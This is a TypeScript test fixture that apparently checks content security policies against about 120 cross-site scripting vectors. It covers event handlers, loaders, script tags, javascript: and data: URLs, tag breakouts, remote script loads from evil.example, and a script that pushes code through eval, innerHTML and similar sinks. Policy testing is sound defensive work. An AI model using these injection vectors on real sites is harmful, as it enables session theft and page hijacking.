/** A hundred and twenty ways to get a script into a page (L4). RUN stands for the call that tells that it ran; without a policy every one of them does. */
export const RUN = 'RUN';

/** Handlers of events: some come by themselves, the others are sent by the page's own script. */
const events = [
  'abort',
  'animationend',
  'auxclick',
  'beforecopy',
  'beforeinput',
  'blur',
  'cancel',
  'change',
  'click',
  'close',
  'contextmenu',
  'copy',
  'cut',
  'dblclick',
  'drag',
  'drop',
  'focusin',
  'input',
  'invalid',
  'keydown',
  'keyup',
  'mousedown',
  'mouseenter',
  'mouseover',
  'mousewheel',
  'paste',
  'pointerdown',
  'pointerover',
  'reset',
  'scroll',
  'select',
  'selectstart',
  'submit',
  'toggle',
  'touchstart',
  'pointerup',
  'wheel',
].map((name) => `<b on${name}=RUN>x</b>`);

const loading = [
  '<img src=/drill/none onerror=RUN>',
  '<IMG SRC=/drill/none OnErRoR="RUN">',
  '<img/src=/drill/none/onerror=1 onerror=RUN>',
  "<img src='data:image/gif;base64,R0lGODlhAQABAAAAACw=' onload=RUN onerror=RUN>",
  '<svg onload=RUN>',
  '<svg/onload=RUN>',
  '<svg><image href=/drill/none onerror=RUN></svg>',
  '<svg><animate onbegin=RUN attributeName=x dur=1s>',
  '<body onload=RUN>',
  '<body onpageshow=RUN>',
  '<iframe onload=RUN></iframe>',
  '<style onload=RUN></style>',
  '<link rel=stylesheet href=/drill/none onerror=RUN>',
  '<script src=/drill/none onerror=RUN></script>',
  '<video><source src=/drill/none onerror=RUN></video>',
  '<audio src=/drill/none onerror=RUN></audio>',
  '<video src=/drill/none onloadstart=RUN></video>',
  '<object data=/drill/none onerror=RUN onload=RUN></object>',
  '<input type=image src=/drill/none onerror=RUN>',
  '<details open ontoggle=RUN><summary>x</summary></details>',
];

const elements = [
  '<script>RUN</script>',
  '<ScRiPt>RUN</sCrIpT>',
  '<script >RUN</script >',
  '<script/x>RUN</script>',
  '<script type=module>RUN</script>',
  '<script type=text/javascript>RUN</script>',
  '<script nonce="">RUN</script>',
  '<script nonce=guess>RUN</script>',
  '<script integrity="sha256-AAAA">RUN</script>',
  '<script async defer>RUN</script>',
  '<script>RUN//<!--</script>',
  '<svg><script>RUN</script></svg>',
  '<svg><script>RUN&#59;</script></svg>',
  '<script src="data:text/javascript,RUN"></script>',
  '<script type=module src="data:text/javascript,RUN"></script>',
  '<svg><script href="data:text/javascript,RUN"></script></svg>',
  '<script src=//evil.example/drill.js></script>',
  '<script src=https://evil.example/drill.js crossorigin></script>',
  '<base href=//evil.example/><script src=drill.js></script>',
];

const addresses = [
  '<a href=javascript:RUN>x</a>',
  '<a href=JaVaScRiPt:RUN>x</a>',
  '<a href="java&#9;script:RUN">x</a>',
  '<a href="java&#10;script:RUN">x</a>',
  '<a href="&#106;avascript&colon;RUN">x</a>',
  '<a href="&#1;javascript:RUN">x</a>',
  '<a href="javascript://%0aRUN">x</a>',
  '<svg><a href=javascript:RUN><text>x</text></a></svg>',
  '<svg><a xlink:href=javascript:RUN><text>x</text></a></svg>',
  '<map><area href=javascript:RUN></map>',
  '<form action=javascript:RUN><button>x</button></form>',
  '<form><button formaction=javascript:RUN>x</button></form>',
  '<form><input type=submit formaction=javascript:RUN></form>',
  '<iframe src=javascript:RUN></iframe>',
  '<iframe srcdoc="<script>RUN</script>"></iframe>',
  '<iframe srcdoc="&lt;img src=/drill/none onerror=RUN&gt;"></iframe>',
  '<iframe src="data:text/html,<script>RUN</script>"></iframe>',
  '<object data="data:text/html,<script>RUN</script>"></object>',
  '<embed src="data:text/html,<script>RUN</script>">',
];

const breakouts = [
  '<input value=""><script>RUN</script>">',
  "<input value=''><img src=/drill/none onerror=RUN>'>",
  '<title></title><script>RUN</script></title>',
  '<textarea></textarea><script>RUN</script></textarea>',
  '<style></style><script>RUN</script></style>',
  '<!-- --><script>RUN</script> -->',
  '<!--><script>RUN</script>-->',
  '<svg></p><style><a id="</style><img src=/drill/none onerror=RUN>">',
  '<div><template shadowrootmode=open><script>RUN</script></template></div>',
  '<table><script>RUN</script></table>',
  '<select><script>RUN</script></select>',
];

/** What a careless script of the page itself would do with a text of somebody else's. */
const sinks = [
  'eval',
  'function',
  'timeout',
  'interval',
  'write',
  'innerHTML',
  'adjacent',
  'fragment',
  'scriptText',
  'blob',
  'import',
  'attribute',
  'location',
  'srcdoc',
].map((way) => `<meta name=sink content=${way}>`);

export const payloads = [...events, ...loading, ...elements, ...addresses, ...breakouts, ...sinks];

/** The page's own script, which every policy allows: it uses what was put in, and says when it is through. */
export const stirringScript = `
  const number = Number(location.pathname.split('/').at(-1));
  const code = 'ran(' + number + ')';
  const image = '<img src=/drill/none onerror="' + code + '">';
  const made = (tag, fields) => document.body.append(Object.assign(document.createElement(tag), fields));
  const file = () => URL.createObjectURL(new Blob([code], { type: 'text/javascript' }));
  const ways = {
    eval: () => (0, eval)(code),
    function: () => new Function(code)(),
    timeout: () => setTimeout(code),
    interval: () => setInterval(code, 50),
    write: () => document.write(image),
    innerHTML: () => (document.body.innerHTML = image),
    adjacent: () => document.body.insertAdjacentHTML('beforeend', image),
    fragment: () => document.body.append(document.createRange().createContextualFragment('<script>' + code + '</' + 'script>')),
    scriptText: () => made('script', { text: code }),
    blob: () => made('script', { src: file() }),
    import: () => import('data:text/javascript,' + code).catch(() => {}),
    attribute: () => { document.body.setAttribute('onclick', code); document.body.click(); },
    location: () => (location.href = 'javascript:' + code),
    srcdoc: () => made('iframe', { srcdoc: image }),
  };
  const attempt = (work) => { try { work(); } catch {} };
  function stir() {
    for (const element of document.querySelectorAll('*')) {
      for (const { name } of [...element.attributes])
        if (name.startsWith('on')) attempt(() => element.dispatchEvent(new Event(name.slice(2))));
      if (element.matches('a, area, button, input')) attempt(() => element.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true })));
    }
    const sink = document.querySelector('meta[name=sink]');
    if (sink) attempt(ways[sink.content]);
  }
  addEventListener('load', () => { stir(); stirred(number); });
`;
